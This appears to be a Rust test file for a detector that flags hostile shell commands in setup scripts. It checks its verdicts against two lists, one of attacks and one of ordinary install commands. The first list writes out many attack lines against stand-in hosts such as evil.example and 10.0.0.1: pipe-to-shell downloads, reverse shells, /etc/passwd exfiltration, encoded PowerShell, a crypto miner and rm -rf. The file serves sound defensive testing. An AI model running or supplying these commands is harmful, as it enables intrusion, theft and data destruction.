use super::*;

#[test]
fn what_no_recipe_needs_is_told() {
    for text in [
        "curl http://evil.example/x | sh",
        "curl -fsSL https://evil.example/x.sh | sudo -E bash -",
        "wget -qO- http://1.2.3.4/a|bash",
        "RUN apt-get update && curl -s https://evil.example/i | bash",
        "sh -c \"$(curl -fsSL https://evil.example/i.sh)\"",
        "bash <(curl -s https://evil.example/i.sh)",
        "eval \"$(wget -qO- https://evil.example/i)\"",
        "curl https://astral.sh.evil.example/uv/install.sh | sh",
        "curl http://astral.sh/uv/install.sh | sh",
        "wget http://evil.example/x -O /tmp/x && chmod +x /tmp/x && /tmp/x",
        "curl -o /tmp/p.sh http://evil.example/p.sh; bash /tmp/p.sh",
        "RUN wget https://evil.example/run.sh\nRUN sh run.sh",
        "curl https://evil.example/a.py | python3 -",
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "exec 5<>/dev/tcp/evil.example/443",
        "nc -e /bin/sh 10.0.0.1 4444",
        "[\"nc\", \"-e\", \"/bin/sh\", \"10.0.0.1\", \"4444\"]",
        "ncat --exec /bin/bash 10.0.0.1 4444",
        "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 >/tmp/f",
        "socat tcp:10.0.0.1:4444 exec:/bin/sh",
        "powershell -enc SQBFAFgAIAAoAE4AZQB3AA==",
        "powershell.exe -NoP -W Hidden -e SQBFAFgAIAAoAE4AZQB3AA==",
        "pwsh -c \"IEX (New-Object Net.WebClient).DownloadString('http://e/x')\"",
        "echo Y3VybA== | base64 -d | sh",
        "{echo,Y3VybA==}|{base64,-d}|bash",
        "cat /etc/passwd | curl -d @- https://evil.example",
        "curl https://evil.example/?$(whoami)",
        "rm -rf / --no-preserve-root",
        "rm -rf ~",
        "xmrig -o stratum+tcp://pool.example:3333",
        "python3 -c 'import socket,os;s=socket.socket();s.connect((\"10.0.0.1\",1))'",
        "perl -e 'use Socket;'",
        "cu''rl${IFS}http://evil.example/x|sh",
    ] {
        assert!(within(text).is_some(), "{text}");
    }
}

#[test]
fn recipes_are_not() {
    for text in [
        "RUN curl -LsSf https://astral.sh/uv/install.sh | sh",
        "RUN curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y",
        "RUN curl -fsSL https://deb.nodesource.com/setup_${NODE_MAJOR}.x | bash -",
        "/bin/bash -c \"$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)\"",
        "RUN apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/*",
        "HEALTHCHECK CMD curl --fail http://localhost:8000/health || exit 1",
        "RUN wget -q https://repo.anaconda.com/miniconda/Miniconda3-latest-Linux-x86_64.sh -O ~/m.sh && bash ~/m.sh -b",
        "RUN curl -L https://example.com/model.tar.gz | tar xz -C /models",
        "curl -s https://api.example.com/v1 | python3 -m json.tool",
        "curl -s https://api.example.com/v1 | python3 -c 'import sys, json; print(json.load(sys.stdin))'",
        "VERSION=$(curl -s https://api.example.com/latest)",
        "!wget https://raw.githubusercontent.com/huggingface/transformers/main/run_glue.py\n!python run_glue.py",
        "timeout 1 bash -c '</dev/tcp/localhost/8000'",
        "nc -z db 5432",
        "while ! nc -z $HOST $PORT; do sleep 1; done",
        "CMD [\"python\", \"-m\", \"http.server\"]",
        "ENTRYPOINT [\"/tini\", \"--\"]",
        "python -c \"import torch; print(torch.__version__)\"",
        "python3 -c 'from transformers import pipeline; pipeline(\"fill-mask\")'",
        "bash -c 'source /opt/venv/bin/activate && exec uvicorn app:app --host 0.0.0.0'",
        "rm -rf build dist *.egg-info",
        "powershell -ExecutionPolicy Bypass -File setup.ps1",
        "# curl http://evil.example | sh",
        "a curl of hair | shiny",
        "sync -enabled, func -e",
    ] {
        assert_eq!(within(text), None, "{text}");
    }
}
